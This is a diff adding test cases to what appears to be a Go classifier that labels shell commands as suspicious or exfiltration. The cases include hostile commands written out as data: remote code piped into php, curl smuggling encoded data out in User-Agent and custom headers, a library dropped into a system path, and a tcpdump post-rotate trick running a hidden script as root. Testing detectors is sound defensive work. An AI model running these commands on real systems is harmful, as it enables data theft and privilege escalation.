@@ -18,6 +18,11 @@ var classifyCases = []struct {
 	// grep pattern, shop-wishlist's web shell recon) is no pipe into it
 	{`ps -eo user,pid,args | grep -E "beanstalk|cron|php-fpm: master" | grep -v grep`, classNone},
 	{"curl -s http://198.51.100.7/x | php", classSuspicious},
+	// data hidden in a header's value is sent out; a long path after the
+	// header's option (the file a download writes) is no header's
+	{"curl -s -A 'Mozilla/5.0 (X11; Linux x86_64) rv:ZXhmaWx0cmF0ZWQgc2hhZG93IGxpbmVzIGdvIGhlcmUgYW5kIG1vcmU' https://203.0.113.9/", classExfilImpact},
+	{"curl -s -H 'X-Id: 6578666974726174656420736861646f77206c696e657320676f2068657265' http://203.0.113.9/p", classExfilImpact},
+	{"curl -s -A Wget/1.21.3 -o /usr/local/lib/x86_64-linux-gnu/libgcrypt-hw.so.1 http://127.0.0.1:8445/static/fc.so", classSuspicious},
 	// tcpdump's post-rotate command (GTFOBins): a compressor is its use,
 	// anything else the caller's program run with tcpdump's rights
 	{"sudo -n /usr/bin/tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /var/tmp/.wl/r.sh -Z root", classSuspicious},
